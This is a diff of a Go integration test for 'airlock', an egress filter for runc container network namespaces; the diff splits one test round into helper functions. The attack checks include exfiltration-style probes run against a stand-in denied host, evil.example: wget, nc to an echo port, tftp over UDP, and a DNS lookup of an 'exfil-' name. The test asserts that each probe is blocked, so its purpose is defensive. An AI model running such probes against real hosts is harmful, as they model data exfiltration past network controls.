@@ -253,12 +253,57 @@ func TestRuncOwnNamespaceAttach(t *testing.T) {
 }
 
 // attachRound attaches the pod, calls onAttach (if not nil), checks egress
-// from the container and detaches; backend is the one airlock must pick.
+// from the container and its audit records, detaches and compares the
+// namespace with what it was; backend is the one airlock must pick.
 func attachRound(t *testing.T, e *env, d *servetest.Daemon, pod *podNet, ctr *runctest.Container, backend string, onAttach func(id string)) {
 	before := pod.settled(t)
 	id := sandboxID("runc-" + backend)
-	ctx := context.Background()
-	if err := d.C.Attach(ctx, api.AttachRequest{ID: id, NetNS: pod.path, Labels: map[string]string{"runtime": "runc", "container": ctr.ID}}); err != nil {
+	detach := attachPod(t, d, pod, ctr, id)
+	for b, save := range saveCmds {
+		rules := pod.in(t, save)
+		if got := strings.Contains(rules, "AIRLOCK"); got != (b == backend) {
+			t.Errorf("%s holds airlock's rules: %v, want %v\n%s", save, got, b == backend, rules)
+		}
+	}
+	if onAttach != nil {
+		onAttach(id)
+	}
+	evil := snap(w.evil)
+	checkAllowed(t, ctr, id)
+	checkAttacks(t, pod, ctr, id)
+	if got := snap(w.evil).sub(evil); got != (counts{}) {
+		t.Errorf("denied host saw %+v (connections, requests, datagrams), want none", got)
+	}
+	checkRecords(t, e, id)
+
+	detach()
+	// The IPv6 link-local address comes back when disable_ipv6 is cleared.
+	after := pod.settled(t)
+	for k, v := range before {
+		if after[k] != v {
+			t.Errorf("%s after detach:\n%s\nwant (before attach):\n%s", k, after[k], v)
+		}
+	}
+	if !pod.routed {
+		return
+	}
+	if out, err := pod.inbound(); err != nil || out != "served by the pod\n" {
+		t.Errorf("inbound GET after detach: %v: %q", err, out)
+	}
+	// And the container reaches the fake internet directly again.
+	evil = snap(w.evil)
+	if r := wgetIn(ctr, nil, "http://evil.example/runc-after-"+backend); r.Code != 0 || snap(w.evil).sub(evil).conns != 1 {
+		t.Errorf("direct wget after detach: %s (connections %d, want 1)", r, snap(w.evil).sub(evil).conns)
+	}
+}
+
+// attachPod attaches the pod's namespace through the daemon's API, as the CNI
+// plugin does, and returns the detach; a round that fails before it detaches
+// at its end.
+func attachPod(t *testing.T, d *servetest.Daemon, pod *podNet, ctr *runctest.Container, id string) (detach func()) {
+	t.Helper()
+	req := api.AttachRequest{ID: id, NetNS: pod.path, Labels: map[string]string{"runtime": "runc", "container": ctr.ID}}
+	if err := d.C.Attach(context.Background(), req); err != nil {
 		t.Fatalf("attach %s: %v\n%s", pod.path, err, d.Output())
 	}
 	attached := true
@@ -275,51 +320,77 @@ func attachRound(t *testing.T, e *env, d *servetest.Daemon, pod *podNet, ctr *ru
 			_ = os.Remove(bind)
 		}
 	})
-	for b, save := range saveCmds {
-		rules := pod.in(t, save)
-		if got := strings.Contains(rules, "AIRLOCK"); got != (b == backend) {
-			t.Errorf("%s holds airlock's rules: %v, want %v\n%s", save, got, b == backend, rules)
+	return func() {
+		t.Helper()
+		if err := d.C.Detach(context.Background(), id); err != nil {
+			t.Fatalf("detach: %v", err)
 		}
+		attached = false
 	}
+}
 
-	if onAttach != nil {
-		onAttach(id)
-	}
+func wgetIn(ctr *runctest.Container, env []string, url string) runctest.Result {
+	return ctr.Exec(env, "timeout", "20", "wget", "-q", "-O-", url)
+}
 
-	evil, other := snap(w.evil), snap(w.other)
-	proxy := []string{"http_proxy=http://127.0.0.1:3128"}
-	wget := func(env []string, url string) runctest.Result {
-		return ctr.Exec(env, "timeout", "20", "wget", "-q", "-O-", url)
-	}
-	allowed := []struct {
+// proxyEnv points busybox wget at the gateway's explicit proxy.
+var proxyEnv = []string{"http_proxy=http://127.0.0.1:3128"}
+
+// The paths the allowed host serves in a round: by the explicit proxy, and
+// by a direct connection (DNS goes to the pod's resolver, which the filter
+// answers in its place; the connection to the address it gave is captured).
+func proxyPath(id string) string  { return "/runc-proxy-" + id }
+func directPath(id string) string { return "/runc-direct-" + id }
+
+// checkAllowed fetches from the allowed host both ways and checks that each
+// request reached it once, from the gateway.
+func checkAllowed(t *testing.T, ctr *runctest.Container, id string) {
+	t.Helper()
+	n := len(w.other.Seen())
+	for _, a := range []struct {
 		name string
 		env  []string
 		path string
 	}{
-		{"explicit proxy", proxy, "/runc-proxy-" + id},
-		// DNS goes to the pod's resolver, which the filter answers in its place;
-		// the connection to the address it gave is captured.
-		{"direct connection", nil, "/runc-direct-" + id},
-	}
-	for _, a := range allowed {
-		if r := wget(a.env, "http://other.example.test"+a.path); r.Code != 0 || !strings.Contains(r.Stdout, "hello from other.example.test"+a.path) {
+		{"explicit proxy", proxyEnv, proxyPath(id)},
+		{"direct connection", nil, directPath(id)},
+	} {
+		if r := wgetIn(ctr, a.env, "http://other.example.test"+a.path); r.Code != 0 || !strings.Contains(r.Stdout, "hello from other.example.test"+a.path) {
 			t.Errorf("%s to the allowed host: %s", a.name, r)
 		}
 	}
+	var paths []string
+	for _, r := range seenSince(w.other, n) {
+		paths = append(paths, r.URL.Path)
+		// Only through airlock: the gateway, on the host's side of the fake
+		// internet, made the connection, not the pod.
+		if host, _, _ := net.SplitHostPort(r.RemoteAddr); host != w.net.HostAddr.String() {
+			t.Errorf("%s came from %s, want the gateway's %s", r.URL.Path, r.RemoteAddr, w.net.HostAddr)
+		}
+	}
+	if want := []string{proxyPath(id), directPath(id)}; !slices.Equal(paths, want) {
+		t.Errorf("allowed host served %q, want %q", paths, want)
+	}
+}
+
+// checkAttacks tries the denied host every way busybox can from inside the
+// container, and an inbound connection and a route change from outside and
+// inside; the caller checks the denied host's counters.
+func checkAttacks(t *testing.T, pod *podNet, ctr *runctest.Container, id string) {
+	t.Helper()
 	evilIP := w.evil.IP.String()
-	attacks := []struct {
+	for _, a := range []struct {
 		name string
 		env  []string
 		argv []string
 	}{
-		{"denied host through the proxy", proxy, []string{"wget", "-q", "-O-", "http://evil.example/runc-proxy"}},
+		{"denied host through the proxy", proxyEnv, []string{"wget", "-q", "-O-", "http://evil.example/runc-proxy"}},
 		{"denied host by name, no proxy", nil, []string{"wget", "-q", "-O-", "http://evil.example/runc-direct"}},
 		{"denied host by address", nil, []string{"wget", "-q", "-O-", "http://" + evilIP + "/runc-ip"}},
 		{"raw TCP to the denied host's echo port", nil, []string{"sh", "-c", "echo x | nc -w 3 " + evilIP + " 7"}},
 		{"UDP to the denied host", nil, []string{"tftp", "-g", "-r", "x", "-l", "/tmp/x", evilIP, "7"}},
 		{"DNS to the denied host as resolver", nil, []string{"nslookup", "exfil-" + id + ".evil.example", evilIP}},
-	}
-	for _, a := range attacks {
+	} {
 		r := ctr.Exec(a.env, append([]string{"timeout", "10"}, a.argv...)...)
 		if strings.Contains(r.Stdout, "hello from") || strings.Contains(r.Stdout, "x\n") {
 			t.Errorf("%s: answered: %s", a.name, r)
@@ -337,33 +408,22 @@ func attachRound(t *testing.T, e *env, d *servetest.Daemon, pod *podNet, ctr *ru
 	if r := ctr.Exec(nil, "ip", "route", "del", "default"); r.Code == 0 {
 		t.Errorf("the container deleted its default route: %s", r)
 	}
+}
 
-	if got := snap(w.evil).sub(evil); got != (counts{}) {
-		t.Errorf("denied host saw %+v (connections, requests, datagrams), want none", got)
-	}
-	var paths []string
-	for _, r := range seenSince(w.other, int(other.requests)) {
-		paths = append(paths, r.URL.Path)
-		// Only through airlock: the gateway, on the host's side of the fake
-		// internet, made the connection, not the pod.
-		if host, _, _ := net.SplitHostPort(r.RemoteAddr); host != w.net.HostAddr.String() {
-			t.Errorf("%s came from %s, want the gateway's %s", r.URL.Path, r.RemoteAddr, w.net.HostAddr)
-		}
-	}
-	if want := []string{allowed[0].path, allowed[1].path}; !slices.Equal(paths, want) {
-		t.Errorf("allowed host served %q, want %q", paths, want)
-	}
-
-	// Every decision is in the audit log under the attached sandbox's id.
+// checkRecords waits for every decision of the round in the audit log under
+// the attached sandbox's id.
+func checkRecords(t *testing.T, e *env, id string) {
+	t.Helper()
+	evilIP := w.evil.IP.String()
 	wantRecs := []struct {
 		what string
 		ok   func(audit.Record) bool
 	}{
 		{"allow through the proxy", func(r audit.Record) bool {
-			return r.Decision == audit.DecisionAllow && r.Host == "other.example.test" && r.Path == allowed[0].path
+			return r.Decision == audit.DecisionAllow && r.Host == "other.example.test" && r.Path == proxyPath(id)
 		}},
 		{"allow of the direct connection", func(r audit.Record) bool {
-			return r.Decision == audit.DecisionAllow && r.Host == "other.example.test" && r.Path == allowed[1].path
+			return r.Decision == audit.DecisionAllow && r.Host == "other.example.test" && r.Path == directPath(id)
 		}},
 		{"DNS through the filter", func(r audit.Record) bool {
 			return r.Kind == audit.KindDNS && strings.TrimSuffix(r.QName, ".") == "other.example.test"
@@ -397,35 +457,13 @@ func attachRound(t *testing.T, e *env, d *servetest.Daemon, pod *podNet, ctr *ru
 		}
 		return true
 	})
-	if !complete {
-		for _, wr := range wantRecs {
-			if !slices.ContainsFunc(mine, wr.ok) {
-				t.Errorf("no audit record for %s", wr.what)
-			}
-		}
-		t.Logf("records of %s:\n%s", id, dump(mine))
-	}
-
-	if err := d.C.Detach(ctx, id); err != nil {
-		t.Fatalf("detach: %v", err)
-	}
-	attached = false
-	// The IPv6 link-local address comes back when disable_ipv6 is cleared.
-	after := pod.settled(t)
-	for k, v := range before {
-		if after[k] != v {
-			t.Errorf("%s after detach:\n%s\nwant (before attach):\n%s", k, after[k], v)
-		}
-	}
-	if !pod.routed {
+	if complete {
 		return
 	}
-	if out, err := pod.inbound(); err != nil || out != "served by the pod\n" {
-		t.Errorf("inbound GET after detach: %v: %q", err, out)
+	for _, wr := range wantRecs {
+		if !slices.ContainsFunc(mine, wr.ok) {
+			t.Errorf("no audit record for %s", wr.what)
+		}
 	}
-	// And the container reaches the fake internet directly again.
-	evil = snap(w.evil)
-	if r := wget(nil, "http://evil.example/runc-after-"+backend); r.Code != 0 || snap(w.evil).sub(evil).conns != 1 {
-		t.Errorf("direct wget after detach: %s (connections %d, want 1)", r, snap(w.evil).sub(evil).conns)
-	}
+	t.Logf("records of %s:\n%s", id, dump(mine))
 }
